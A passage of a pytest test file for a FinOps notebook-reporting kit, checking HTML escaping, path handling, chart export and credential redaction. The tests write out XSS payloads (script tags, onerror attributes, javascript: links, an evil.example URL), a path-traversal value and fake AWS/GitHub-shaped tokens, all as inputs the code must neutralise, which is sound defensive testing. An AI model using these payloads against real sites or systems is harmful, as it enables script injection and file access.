def test_bad_parameters_are_one_line_config_errors(smoke_info, pairs, message):
    with pytest.raises(ConfigError) as err:
        report.plan([smoke_info], report.parse_parameters(pairs), {}, "/wh", None)
    assert message in str(err.value) and "\n" not in str(err.value)


def test_bad_parameter_on_the_command_line_exits_2_before_running(tmp_path, capsys):
    wh = _make_warehouse(tmp_path / "wh.duckdb")
    code = cli_main(["report", str(FIXTURE_NB), "--warehouse", str(wh), "--out", str(tmp_path / "o"),
                     "-p", "top=lots"])
    err = capsys.readouterr().err.strip()
    assert code == 2 and err.count("\n") == 0 and "expects an integer" in err
    assert not (tmp_path / "o").exists()


def test_report_names_cannot_escape_the_output_folder(tmp_path):
    name = report.report_name("smoke", {"team": "../../../etc/passwd", "x": "/abs/..\\..", "y": "..."})
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    target = report._inside(tmp_path, name, ".html")
    assert target.parent == tmp_path.resolve()
    with pytest.raises(ConfigError):
        report._inside(tmp_path, "../evil", ".html")
    assert len(report.report_name("nb", {"t": "x" * 500})) <= 200


def test_list_shows_notebooks_and_parameters(tmp_path, capsys):
    shutil.copy(FIXTURE_NB, tmp_path / "smoke.ipynb")
    shutil.copy(FIXTURE_NB, tmp_path / "_hidden.ipynb")
    assert cli_main(["report", "--list", "--notebooks-dir", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "smoke  — Smoke report" in out and "-p top=<int>  (default 5)  # how many providers to show" in out
    assert "_hidden" not in out


def test_secret_redaction_helpers():
    env = {"AWS_SECRET_ACCESS_KEY": "abcdefgh123", "HOME": "/root/home-dir", "GITHUB_TOKEN": "ghp_xyz12345"}
    vals = report.secret_values(env)
    assert vals == ["abcdefgh123", "ghp_xyz12345"] or set(vals) == {"abcdefgh123", "ghp_xyz12345"}
    assert report.redact("k=abcdefgh123 home=/root/home-dir", vals) == "k=[redacted] home=/root/home-dir"


# -- notebook.py / charts.py helpers ----------------------------------------------------------------------------

def test_table_escapes_everything_and_formats_money():
    df = pd.DataFrame({"team": [XSS_SCRIPT, XSS_IMG], "cost": [Decimal("1234.5"), Decimal("-3")],
                       "share": [0.25, 0.75], "<b>col</b>": [1, 2]})
    t = nb.table(df, percent=["share"], caption="<i>cap</i>")
    html_ = t._repr_html_()
    assert "<script>" not in html_ and "<img" not in html_ and "<b>col" not in html_ and "<i>cap" not in html_
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_ and "&lt;b&gt;col&lt;/b&gt;" in html_
    assert "$1,234.50" in html_ and "-$3.00" in html_ and "25.0%" in html_  # Decimal -> money automatically
    assert nb.money(Decimal("1234.567"), "EUR") == "1,234.57 EUR" and nb.money(0.125) == "$0.13"
    with pytest.raises(KeyError):
        nb.table(df, money=["nope"])
    assert "showing the first 1 of 2 rows" in nb.table(df, max_rows=1)._repr_html_()


def test_offline_renderer_escapes_script_end_in_spec():
    import altair as alt

    nb.setup({"team": "x"}, mode="report")
    try:
        chart = alt.Chart(pd.DataFrame({"t": [XSS_SCRIPT], "v": [1.0]})).mark_bar().encode(x="t:N", y="v:Q")
        bundle = chart._repr_mimebundle_()
        body = bundle["text/html"] if isinstance(bundle, dict) else bundle[0]["text/html"]
        assert "</script>" in body and body.count("</script>") == 1  # only the element's own end tag
        assert "<\\/script>" in body and "vegaEmbed" in body and "vega.min.js" not in body
    finally:
        nb.setup(mode="live")
    assert alt.renderers.active == "finops_live"  # live charts use the kit's bundle, not Altair's CDN renderer


def test_report_charts_display_their_spec_without_schema_validation_and_live_charts_keep_it(monkeypatch):
    """In a report kernel a chart is displayed from ``to_dict(validate=False)`` (the same spec, without checking it
    against the Vega-Lite schema again: 0.87 s of the six reports' CPU); live, Altair validates as before."""
    import altair as alt
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance()
    validated = []
    real = alt.Chart.validate
    monkeypatch.setattr(alt.Chart, "validate", lambda self, *a, **k: validated.append(1) or real(self, *a, **k))
    chart = alt.Chart(pd.DataFrame({"t": ["a"], "v": [1.0]})).mark_bar().encode(x="t:N", y="v:Q")
    try:
        nb.setup({}, mode="report")
        data, _ = shell.display_formatter.format(chart)
        assert validated == [] and "vegaEmbed" in data["text/html"] and '"mark":{"type":"bar"}' in data["text/html"]
        bad = alt.Chart(pd.DataFrame({"v": [1.0]})).mark_bar().encode(x=alt.X("v:Q", bin="not-a-bin"))
        data, _ = shell.display_formatter.format(bad)  # an invalid spec still displays: vega-embed reports it
        assert "vegaEmbed" in data["text/html"]
        nb.setup({}, mode="live")
        data, _ = shell.display_formatter.format(chart)
        assert validated and "finops-live" in data["text/html"]
    finally:
        nb.setup(mode="live")
        InteractiveShell.clear_instance()


def test_parameters_captured_by_setup():
    ns = {"warehouse": "w", "top": 3, "teams": ["a"], "pd": pd, "_hidden": 1, "fn": print, "In": []}
    assert nb.parameters_from(ns) == {"warehouse": "w", "top": 3, "teams": ["a"]}


def test_colors_are_stable_across_charts():
    a = ch.color_map(["vision", "nlp", "search"], "team")
    b = ch.color_map(["vision", "ads"], "team")
    assert a["vision"] == b["vision"]
    assert len(set(a.values())) == 3
    assert ch.color_map(["AWS", "Google Cloud", "Microsoft"])["AWS"] == "#FF9900"  # auto-detected providers
    assert ch.color_map(["(untagged)", "vision"], "team")["(untagged)"] == ch.UNALLOCATED_COLOR


def test_chart_builders_take_aggregates_only():
    df = pd.DataFrame({"month": pd.to_datetime(["2026-09-01", "2026-10-01"]), "provider": ["AWS", "AWS"],
                       "cost": [Decimal("1.5"), Decimal("2.5")]})
    spec = ch.dropdown(ch.stacked_area(df, "month", "cost", "provider"), "provider", ["AWS"]).to_dict()
    values = next(iter(spec["datasets"].values()))
    assert [v["cost"] for v in values] == [1.5, 2.5]  # Decimal -> float only for plotting
    assert spec["params"][0]["bind"]["input"] == "select"
    with pytest.raises(ValueError, match="aggregate in DuckDB"):
        ch.bar(pd.DataFrame({"k": range(ch.MAX_ROWS + 1), "v": 1.0}), "k", "v")


def test_live_notebook_finds_project_files_from_the_notebooks_folder(tmp_path):
    """JupyterLab starts kernels in notebooks/: relative warehouse/config parameters still resolve."""
    from finops_kit.notebook import resolve_project_paths

    (tmp_path / "finops.yaml").write_text("reports: {}\n")
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "warehouse.duckdb").write_bytes(b"")
    (tmp_path / "notebooks").mkdir()
    ns = {"warehouse": "data/warehouse.duckdb", "config_path": "finops.yaml", "cache_path": "data/nothing.parquet",
          "top_n": 5, "title": "data/warehouse.duckdb"}
    resolve_project_paths(ns, start=tmp_path / "notebooks")
    assert ns["warehouse"] == str(tmp_path / "data" / "warehouse.duckdb")
    assert ns["config_path"] == str(tmp_path / "finops.yaml")
    # not found anywhere: placed under the project root (a cache is created there, not in notebooks/)
    assert ns["cache_path"] == str(tmp_path / "data" / "nothing.parquet")
    assert ns["title"] == "data/warehouse.duckdb"  # not a path parameter
    ns2 = {"warehouse": "data/warehouse.duckdb"}
    resolve_project_paths(ns2, start=tmp_path)  # already resolvable from the working directory: unchanged
    assert ns2["warehouse"] == "data/warehouse.duckdb"


def test_file_parameters_are_passed_project_relative(tmp_path):
    """Side-file parameters (the AI unit economics report's utilization folder, runs and business-metrics files) reach
    the notebook like the warehouse: relative to the project root, whether given with -p, absolute, or left at the
    notebook's default; URLs and empty values are left alone."""
    P = report.Param
    info = report.NotebookInfo(path=tmp_path / "x.ipynb", name="x", title="x", params={
        "gpu_metrics_dir": P("gpu_metrics_dir", "str", "data/samples/_ai_units/gpu"),
        "runs_file": P("runs_file", "str", ""),
        "business_metrics_file": P("business_metrics_file", "str", "data/./samples/bm.csv"),
        "advisor_path": P("advisor_path", "str", "https://example.com/spot-advisor-data.json"),
        "warehouse": P("warehouse", "str", "data/warehouse.duckdb")})
    cwd = Path.cwd().resolve()
    [job] = report.plan([info], report.parse_parameters([f"runs_file={cwd / 'runs' / 'training_runs.csv'}"]), {},
                        str(cwd / "wh.duckdb"), None)
    p = job.parameters
    assert p["gpu_metrics_dir"] == "data/samples/_ai_units/gpu"          # the default, passed explicitly
    assert p["runs_file"] == os.path.join("runs", "training_runs.csv")  # absolute -> project-relative
    assert p["business_metrics_file"] == os.path.join("data", "samples", "bm.csv")
    assert "advisor_path" not in p and "runs_file" in p  # a URL keeps the notebook's default
    assert p["warehouse"] == "wh.duckdb"
    # the report's file name and the index's parameters too (a review found /tmp/... spelled into the file name,
    # the index's link and the notebook's output_path); a path outside the project stays relative (../)
    outside = cwd.parent / "elsewhere" / "runs.csv"
    [job] = report.plan([info], report.parse_parameters([f"runs_file={outside}"]), {}, str(cwd / "wh.duckdb"), None)
    assert job.cli_parameters["runs_file"] == os.path.join("..", "elsewhere", "runs.csv")
    assert str(cwd.parent).strip("/").split("/")[0] not in job.name.split("__runs_file-")[1], job.name


def test_report_kernels_skip_the_iri_parser_and_still_validate_charts(tmp_path):
    """A report kernel does not build jsonschema's RFC 3987 parser (1 s of CPU per kernel at ``import altair``);
    Altair still validates every chart against the Vega-Lite schema (its formats are uri, not iri)."""
    body = ("import sys, time\nt = time.process_time()\nimport altair as alt\nimport pandas as pd\n"
            "print(sys.modules.get('rfc3987_syntax', 'missing'))\n"
            f"print([m for m in {report.UNUSED_FORMAT_CHECKERS!r} if sys.modules.get(m, 'missing') is not None])\n"
            "try:\n    alt.Chart(pd.DataFrame({'x': [1]})).mark_bar(color=3).to_dict()\n"
            "except Exception as exc:\n    print('invalid chart:', type(exc).__name__)\n"
            "print(alt.Chart(pd.DataFrame({'x': [1]}), usermeta={'href': 'https://example.com/a b'}).mark_bar()"
            ".encode(x='x:Q').to_dict()['mark'])")
    book = _tiny_notebook(tmp_path / "charts.ipynb", body)
    [r] = report.run_jobs([_job(book)], tmp_path / "out", timeout_cell=120, timeout_notebook=240)
    assert r.status == "ok", r.error
    executed = nbformat.read(str(tmp_path / "out" / r.ipynb), as_version=4)
    lines = executed.cells[-1].outputs[0].text.splitlines()
    assert lines[0] == "None"  # the import was refused, not attempted
    assert lines[1] == "[]"  # nor any of the other unused format checkers
    assert lines[2].startswith("invalid chart: SchemaValidationError")
    assert "bar" in lines[3]
    assert [c.execution_count for c in executed.cells if c.cell_type == "code"] == [1, 2]  # exec_lines count none


def test_the_command_line_skips_the_iri_parser_too():
    """The finops-kit process imports jsonschema through nbformat (0.79 s with the RFC 3987 parser, 0.08 s without;
    `finops-kit report --list` 1.0 -> 0.24 s); it validates notebooks, which have no IRI format."""
    import subprocess
    import sys

    code = ("import sys\nfrom finops_kit.cli import main\nassert main(['report', '--list']) == 0\n"
            "import nbformat\nprint(sys.modules.get('rfc3987_syntax', 'missing'))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True)
    assert out.stdout.splitlines()[-1] == "None"


def test_longest_report_starts_first_and_durations_are_recorded(tmp_path, monkeypatch):
    """With several reports at once the longest one (by the last recorded duration) starts first -- the suite is
    bounded by it -- a never-run notebook ahead of all, ties in the given order; results stay in job order and
    each rendered report's duration is recorded for the next run (a failed one is not)."""
    monkeypatch.setenv("FINOPS_DURATIONS_CACHE", str(tmp_path / "cache"))
    books = {n: _tiny_notebook(tmp_path / f"{n}.ipynb", "print(sleep_s)") for n in ("a", "b", "c", "d")}
    jobs = [_job(books[n]) for n in ("a", "b", "c", "d")]
    past = {str(books["a"].resolve()): 2.0, str(books["b"].resolve()): 30.0, str(books["c"].resolve()): 2.0}
    assert [j.name for j in report.longest_first(jobs, past)] == ["d", "b", "a", "c"]
    assert [j.name for j in report.longest_first(jobs, {})] == ["a", "b", "c", "d"]

    assert report.past_durations() == {}
    broken = _tiny_notebook(tmp_path / "broken.ipynb", "raise ValueError('no')")
    results = report.run_jobs([*jobs[:2], _job(broken)], tmp_path / "out", timeout_cell=60, timeout_notebook=120,
                              workers=2)
    assert [r.name for r in results] == ["a", "b", "broken"] and [r.status for r in results] == ["ok", "ok", "failed"]
    recorded = report.past_durations()
    assert recorded == {str(books[n].resolve()): r.duration_s for n, r in zip("ab", results, strict=False)}
    key = str(books["a"].resolve())
    report.record_durations(jobs[:1], [dataclasses.replace(results[0], duration_s=1000.0)])
    report.record_durations(jobs[:1], [dataclasses.replace(results[0], duration_s=1.0)])
    assert report.past_durations()[key] == 900.0  # a short warm-cache run does not hide a long cold one at once
    books["b"].unlink()  # a temporary notebook gone: its entry is dropped at the next write
    report.record_durations(jobs[:1], [dataclasses.replace(results[0], duration_s=1.0)])
    assert set(report.past_durations()) == {key}
    (tmp_path / "cache" / report.DURATIONS_FILE).write_text("not json")
    assert report.past_durations() == {}  # a damaged record only loses the order, never the run
    monkeypatch.setenv("FINOPS_DURATIONS_CACHE", "off")
    report.record_durations(jobs[:1], [results[0]])
    assert report.past_durations() == {} and (tmp_path / "cache" / report.DURATIONS_FILE).read_text() == "not json"


@pytest.mark.parametrize("source", [
    "print('<script>alert(1)</script>')  # <img src=x onerror=alert(2)>",
    'x = "a & b < c > d" if 1 < 2 else \'&amp; &lt;\'\n\n\n    # trailing',
    "s = '\u00e9\u00e8 \u2014 \u20ac 1,234.56 $ \\\\$'  # unicode, dollars\nraise ValueError(f\"{s!r}\")",
    "%%html\n<b onclick=\"evil()\">x</b>\n```\n</div></pre>",
])
def test_highlighted_code_needs_no_sanitizing(source):
    """The report template shows a code cell's highlighted source without lab's clean_html pass (0.7 s of CPU per
    suite): safe because Pygments escapes the source and bleach leaves its output unchanged -- checked here on code
    that carries markup, entities, unicode and broken HTML."""
    from nbconvert.filters.highlight import Highlight2HTML
    from nbconvert.filters.strings import clean_html

    highlighted = Highlight2HTML(pygments_lexer="ipython3")(source)
    assert clean_html(highlighted) == highlighted
    assert "<script" not in highlighted and "<img" not in highlighted and "<b " not in highlighted


# -- export ----------------------------------------------------------------------------------------------------

def _document(page: str) -> list:
    """A page as the browser's document sees it: every element (name, attributes in any order) and text node."""
    from bs4 import BeautifulSoup, Tag

    out = []
    for node in BeautifulSoup(page, features="html.parser").descendants:
        if isinstance(node, Tag):
            out.append((node.name, sorted((k, " ".join(v) if isinstance(v, list) else v)
                                          for k, v in node.attrs.items())))
        else:
            out.append(str(node))
    return out


def _exported_both_ways(book_path: Path, tmp_path: Path, monkeypatch, code: str = "folded") -> tuple[str, str]:
    """The page of the kit's exporter and the page of nbconvert's HTMLExporter (same template and resources)."""
    from nbconvert import HTMLExporter

    job = _job(book_path)
    ours = report.Runner(tmp_path / "ours", 60, 60, code).render(job, book_path, "ok", None, None)
    monkeypatch.setattr(report, "report_exporter_class", lambda: HTMLExporter)
    theirs = report.Runner(tmp_path / "theirs", 60, 60, code).render(job, book_path, "ok", None, None)
    return ours, theirs


def test_export_makes_the_same_document_as_nbconvert_without_its_soup_pass(tmp_path, monkeypatch):
    """nbconvert's HTMLExporter re-parses every page with BeautifulSoup (0.27 s per 2 MB report) to add alt text and
    tabindex; the kit adds them on the opening tags. Same document: images with and without alt text (markdown,
    PNG output, HTML output), inputs, text, HTML and error outputs, and HTML that merely mentions the classes."""
    png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
    book = nbformat.v4.new_notebook()
    book.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    params = nbformat.v4.new_code_cell("n = 1")
    params.metadata["tags"] = ["parameters"]
    shown = nbformat.v4.new_code_cell("display(HTML(...))")
    shown.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="<b>not bold</b> & 'quoted'\n"),
        nbformat.v4.new_output("display_data", data={"text/html": (
            '<div class="jp-OutputArea-output-like">x</div><img src="a.png"><IMG SRC="b.png" ALT="b">'
            '<p title="jp-Cell-inputWrapper">class named in an attribute</p>'),
            "text/plain": "html"}),
        nbformat.v4.new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"}),
        nbformat.v4.new_output("error", ename="ValueError", evalue="bad <value>", traceback=["ValueError: bad"]),
    ]
    book.cells = [nbformat.v4.new_markdown_cell("# Title\n\n![](data:image/png;base64," + png + ")\n\n"
                                                "![a chart](data:image/png;base64," + png + ")"),
                  params, shown, nbformat.v4.new_code_cell("1 + 1")]
    path = tmp_path / "book.ipynb"
    nbformat.write(book, str(path))
    for code in ("folded", "shown", "hidden"):
        ours, theirs = _exported_both_ways(path, tmp_path / code, monkeypatch, code)
        assert 'alt="No description has been provided for this image"' in theirs and 'tabindex="0"' in theirs
        assert _document(ours) == _document(theirs), code
        monkeypatch.undo()


def test_curated_reports_export_to_the_same_document_as_nbconvert(curated_reports, tmp_path, monkeypatch):
    out, results = curated_reports
    for name, r in results.items():
        ours, theirs = _exported_both_ways(out / r.ipynb, tmp_path / name, monkeypatch)
        assert _document(ours) == _document(theirs), name
        monkeypatch.undo()


def test_the_test_session_keeps_report_durations_out_of_the_users_cache():
    """The tests render dozens of temporary notebooks; their durations belong to the test session, never to the
    record in the user's cache folder (``~/.cache/finops-kit``, where the Vega bundle stays warm for the tests).
    Before: the record was written to the user's cache folder by every test run."""
    from finops_kit import assets

    path = report._durations_path().resolve()
    assert path.name == report.DURATIONS_FILE
    assert path.parent != assets.cache_dir().resolve()
    assert assets.vega_bundle_path().parent == assets.cache_dir()  # the shared bundle cache is untouched


def test_an_impossible_date_parameter_is_a_one_line_error(capsys):
    """'-p date_start=2026-02-30' looked like a YAML date and crashed the parser ('unexpected ValueError: day is
    out of range for month', exit 1; found by a review): the text goes to the parameter's own check."""
    from finops_kit.cli import main

    assert report.parse_cli_value("2026-02-30") == "2026-02-30"
    assert str(report.parse_cli_value("2026-02-28")) == "2026-02-28"
    assert main(["metrics", "--warehouse", "nowhere.duckdb", "-p", "date_start=2026-02-30"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "2026-02-30" in err and "YYYY-MM-DD" in err, err


# -- data values inside Markdown, credentials in names / index / CSV links, ANSI paths, quality line ------------

#: values a bucket, account, model or region can carry in a billing export
HOSTILE_MD = [XSS_SCRIPT, XSS_IMG, "x<img src=x onerror=window.PWN=1>", "[click](javascript:alert(1))",
              "![i](http://evil.example/x.png)", "<a href=javascript:alert(2)>a</a>", "**bold** _em_ ~~del~~",
              "`code` ``more``", "costs $1 and $2", "{{ x }} {% y %}", "# heading", "> quote", "- item", "1. item",
              "line\n\n<script>alert(3)</script>", "a | b | c", "https://bob:pw@evil.example/x", "back\\slash \\$",
              "&lt;already&gt; &amp;"]


def _rendered(markdown: str) -> str:
    """Markdown -> HTML through the renderer nbconvert uses for ``text/markdown`` outputs (its mistune filter)."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(markdown)


def _visible_text(page: str) -> str:
    import html as html_mod

    return html_mod.unescape(re.sub(r"<[^>]+>", "", page))


@pytest.mark.parametrize("value", HOSTILE_MD)
def test_markdown_text_helper_makes_a_data_value_plain_text(value):
    """A bucket named ``x<img src=x onerror=...>`` ran script in the storage report: nb.md() only escaped ``$``."""
    made = nb.md(f"**Check first.** {nb.text(value)} and **{nb.text(value)}** rest").data
    page = _rendered(made)
    low = page.lower()
    assert "<img" not in low and "<script" not in low and "javascript:" not in re.sub(r"\s", "", _visible_text(
        "".join(re.findall(r"<[^>]+>", page))).lower()), page  # no tag and no attribute carries the payload
    assert "<a " not in low and "<em>" not in low and "<code>" not in low and "<del>" not in low, page
    for tag in ("<h1", "<blockquote", "<li", "<table", "<ol", "<ul"):
        assert tag not in low, (tag, page)
    assert low.count("<strong>") == 2  # the template's own emphasis is kept, the value's is not
    assert " ".join(value.split()) in " ".join(_visible_text(page).split())  # shown as exactly its characters
    assert "\n" not in nb.text(value)  # cannot open a new block


def test_markdown_keyword_values_are_escaped_and_formatted():
    made = nb.md("**{bucket}** ({region} \u2192 {dest}): {gb:,.0f} GB, {{literal}}", bucket=XSS_IMG,
                 region="[r](javascript:x)", dest="us-east-1", gb=12345.6).data
    page = _rendered(made)
    assert "<img" not in page and "href" not in page and "<strong>" in page
    assert "12,346 GB" in _visible_text(page) and "{literal}" in _visible_text(page)
    assert XSS_IMG in _visible_text(page) and "[r](javascript:x)" in _visible_text(page)
    assert nb.text(None) == "" and nb.text(3) == "3"
    for value in ("a`b<i>", "``x``", ""):  # an inline code span that holds any value verbatim
        assert _visible_text(_rendered(nb.code(value))).strip() == value
        assert "<i>" not in _rendered(nb.code(value))


def test_markdown_fenced_json_is_escaped_by_the_renderer():
    """The storage report shows lifecycle JSON (bucket names inside) in a fenced block: the renderer escapes it."""
    conf = {"Rules": [{"ID": XSS_IMG, "Filter": {"Prefix": "<script>alert(1)</script>"}}]}
    page = _rendered(nb.md(f"**{nb.text('b<img src=x>')}**\n\n```json\n{json.dumps(conf, indent=2)}\n```").data)
    assert "<img" not in page and "<script" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page


#: notebooks whose Markdown cells were checked for data values; the other four are reported, not asserted
MARKDOWN_CHECKED = ("storage_lifecycle", "commitments", "spot_analysis", "ai_unit_economics", "tagging_audit",
                    "forecast_vs_actual")
def test_md_text_is_never_read_as_a_file_name_or_fetched_as_a_url(tmp_path, monkeypatch):
    """IPython's Markdown(text) reads a text naming an existing file and fetches one starting with 'http':
    ``nb.md('{team}', team='Makefile')`` rendered the project's Makefile, and a file holding an ``onerror``
    attribute ran script in the page."""
    import urllib.request

    fetched = []
    monkeypatch.setattr(urllib.request, "urlopen", lambda *a, **k: fetched.append(a) or 1 / 0)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "Makefile").write_text("<img src=x onerror=alert(1)>\n", encoding="utf-8")
    assert nb.md("{team}", team="Makefile").data == "Makefile"
    assert nb.md("Makefile").data == "Makefile"
    assert nb.md("{u}", u="http://files.example/x.md").data == "http\\:\\/\\/files\\.example\\/x\\.md"
    assert nb.md("https://files.example/x.md costs $5").data.count("https://files.example/x.md") == 1
    assert fetched == []
    assert nb.md("Makefile")._repr_markdown_() == "Makefile"


#: what an f-string field of nb.md() may be: made safe (text/code), money, a number's format, a sentence built
#: from safe fields in the same cell, or JSON inside a fenced code block (the renderers escape it as HTML:
#: test_markdown_fenced_json_is_escaped_by_the_renderer)
_SAFE_CALLS = {"nb.text", "nb.code", "nb.money", "len", "int", "float", "sc.period_text", "json.dumps"}
_SAFE_NAMES = {"reads", "nxt", "verdict"}


def unescaped_markdown_fields(path: Path) -> list[str]:
    """The f-string fields of ``nb.md(...)`` calls in a notebook that interpolate a value without nb.text()."""
    import ast

    found = []
    for i, cell in enumerate(nbformat.read(str(path), as_version=4).cells):
        if cell.cell_type != "code" or "nb.md(" not in cell.source:
            continue
        for call in ast.walk(ast.parse(cell.source)):
            if not (isinstance(call, ast.Call) and ast.unparse(call.func) == "nb.md"):
                continue
            for node in ast.walk(call):
                if not isinstance(node, ast.FormattedValue):
                    continue
                v = node.value
                if node.format_spec is not None:
                    continue  # {x:,.0f} {month:%Y-%m}: a number or a date
                if isinstance(v, ast.Call) and ast.unparse(v.func) in _SAFE_CALLS:
                    continue
                if isinstance(v, ast.Name) and v.id in _SAFE_NAMES:
                    continue
                found.append(f"{path.stem} cell {i}: {{{ast.unparse(v)}}}")
    return found


@pytest.mark.parametrize("name", MARKDOWN_CHECKED)
def test_curated_notebooks_put_data_values_into_markdown_through_nb_text(name):
    book = Path(__file__).resolve().parents[1] / "notebooks" / f"{name}.ipynb"
    assert unescaped_markdown_fields(book) == []


def test_credentials_in_parameters_stay_out_of_names_index_and_errors(tmp_path):
    url = "https://bob:Hunter2Secret99@files.internal.example/advisor.json"
    name = report.report_name("spot_analysis", {"advisor_compare_path": url, "team": "S3cretPassw0rd-team"},
                              secrets=["S3cretPassw0rd"])
    assert "Hunter2Secret99" not in name and "bob" not in name and "S3cretPassw0rd" not in name
    assert name.startswith("spot_analysis__advisor_compare_path-https-redacted-files.internal.example")
    # same redacted text, same name: the file name carries no digest of the password
    assert name == report.report_name("spot_analysis", {"advisor_compare_path": url.replace("Hunter2", "Other"),
                                                        "team": "S3cretPassw0rd-team"}, secrets=["S3cretPassw0rd"])
    result = report.ReportResult(
        name="x", notebook="notebooks/x.ipynb", title="X", status="failed",
        parameters={"advisor_compare_path": url, "names": ["S3cretPassw0rd", "ok"]}, html="x.html", ipynb=None,
        started="2026-10-01T00:00:00Z", duration_s=1.0, error=f"cell 3: OSError: cannot read {url} (S3cretPassw0rd)")
    (tmp_path / "x.html").write_text("x", encoding="utf-8")
    report.write_index(tmp_path, [result], None, ["S3cretPassw0rd"])
    for f in ("index.json", "index.html"):
        text = (tmp_path / f).read_text(encoding="utf-8")
        assert "Hunter2Secret99" not in text and "S3cretPassw0rd" not in text and "[redacted]" in text, f
    assert json.loads((tmp_path / "index.json").read_text())["reports"][0]["parameters"]["advisor_compare_path"] \
        == "https://[redacted]@files.internal.example/advisor.json"
    assert report.redact_value({"a": [url, 3, None]}, []) == {"a": ["https://[redacted]@files.internal.example/"
                                                                   "advisor.json", 3, None]}


def test_a_password_with_an_at_sign_stays_out_of_names_index_and_errors(tmp_path):
    """``https://deploy:p@ssw0rd-LEAK@files.example.com/x``: the mask stopped at the first '@' and the report file
    name, index, page banner and stderr showed ``[redacted]@ssw0rd-LEAK@files...``."""
    url = "https://deploy:p@ssw0rd-LEAK@files.example.com/roadmap.yaml"
    name = report.report_name("forecast_vs_actual", {"roadmap_path": url}, secrets=[])
    assert "ssw0rd" not in name and "LEAK" not in name and "redacted-files.example.com" in name
    assert report.redact(f"cell 3: OSError: cannot read {url}", []) == (
        "cell 3: OSError: cannot read https://[redacted]@files.example.com/roadmap.yaml")
    assert "p@ssw0rd-LEAK" in report.secret_values({"ROADMAP_URL": url})  # the password alone, printed by a cell
    result = report.ReportResult(
        name=name, notebook="notebooks/x.ipynb", title="X", status="failed", parameters={"roadmap_path": url},
        html="x.html", ipynb=None, started="2026-10-01T00:00:00Z", duration_s=1.0, error=f"cannot read {url}")
    (tmp_path / "x.html").write_text("x", encoding="utf-8")
    report.write_index(tmp_path, [result], None, [])
    for f in ("index.json", "index.html"):
        assert "ssw0rd" not in (tmp_path / f).read_text(encoding="utf-8"), f


def _csv_links(page: str) -> list[str]:
    import base64

    return [base64.b64decode(m).decode("utf-8")
            for m in re.findall(r'href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', page)]


def test_csv_download_links_are_redacted(monkeypatch):
    df = pd.DataFrame({"resource": ["https://bob:Hunter2Secret99@h.example/x", "db-S3cretPassw0rd", "plain"],
                       "cost": [1.0, 2.0, 3.0]})
    monkeypatch.delenv("SERVICE_PASSWORD", raising=False)  # a report kernel: its environment has no secrets
    link = nb.csv_link(df, "t.csv")
    (csv,) = _csv_links(link)
    assert "Hunter2Secret99" not in csv and "https://[redacted]@h.example/x" in csv  # URL user-info, in the kernel
    assert "db-S3cretPassw0rd" in csv  # the kernel cannot know this one: the runner cleans it (below)
    page = f"<p>{link}</p><p>{nb.csv_link(df.head(1), 'u.csv')}</p>"
    clean = report.redact_data_links(page, ["S3cretPassw0rd"])
    assert all("S3cretPassw0rd" not in c and "Hunter2Secret99" not in c for c in _csv_links(clean))
    assert "db-[redacted]" in _csv_links(clean)[0] and len(_csv_links(clean)) == 2
    assert report.redact_data_links("no links", ["S3cretPassw0rd"]) == "no links"
    monkeypatch.setenv("SERVICE_PASSWORD", "S3cretPassw0rd")  # live in JupyterLab the kernel has the value
    assert "S3cretPassw0rd" not in _csv_links(nb.csv_link(df, "t.csv"))[0]


def test_url_user_info_mask_keeps_the_next_csv_cell_and_json_field(monkeypatch):
    """The mask ran to the last '@' before '/' or white space: in a CSV download the row
    ``https://ci@gitlab.example.com,jane@acme.com,12.5`` became ``https://[redacted]@acme.com,12.5`` (the owner cell
    gone, the cost read as the owner), and in compact chart JSON the ``"owner"`` field vanished."""
    monkeypatch.delenv("SERVICE_PASSWORD", raising=False)
    df = pd.DataFrame({"resource": ["pipeline-a", "pipeline-b"],
                       "repo_tag": ["https://ci@gitlab.example.com", "https://gitlab.example.com"],
                       "owner": ["jane@acme.com", "bob@acme.com"], "cost": [12.5, 3.0]})
    (csv,) = _csv_links(nb.csv_link(df, "x.csv"))
    assert csv.splitlines()[1] == "pipeline-a,https://[redacted]@gitlab.example.com,jane@acme.com,12.5"
    import io
    back = pd.read_csv(io.StringIO(csv)).iloc[0].tolist()
    assert back == ["pipeline-a", "https://[redacted]@gitlab.example.com", "jane@acme.com", 12.5]
    # (row 2, ``https://gitlab.example.com,bob@acme.com``, has no user-info but reads as ``gitlab.example.com,bob``:
    # a ',' is kept inside the user-info so that ``https://user:pa,ss@host`` is masked whole -- as before 7f10765)
    spec = json.dumps({"datasets": {"d": df.to_dict("records")}}, separators=(",", ":"))
    rows = json.loads(report.redact(spec, []))["datasets"]["d"]
    assert rows == [{"resource": "pipeline-a", "repo_tag": "https://[redacted]@gitlab.example.com",
                     "owner": "jane@acme.com", "cost": 12.5},
                    {"resource": "pipeline-b", "repo_tag": "https://gitlab.example.com", "owner": "bob@acme.com",
                     "cost": 3.0}]
    # the password holding an '@' is still masked whole, in a CSV cell as in a sentence
    (csv,) = _csv_links(nb.csv_link(pd.DataFrame({"u": ["https://deploy:p@ssw0rd-LEAK@files.example.com/x"],
                                                  "owner": ["ops@acme.com"]}), "y.csv"))
    assert "ssw0rd" not in csv and "https://[redacted]@files.example.com/x,ops@acme.com" in csv


#: One value of every token format SECRET_VALUE knows (fake values of the real shapes)
TOKENS = ["AKIAIOSFODNN7EXAMPLE", "ASIAY34FZKBOKMUTVV7A", "ghp_" + "aB3dE6" * 6, "ghs_" + "Zx9Yw8" * 6,
          "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUV",
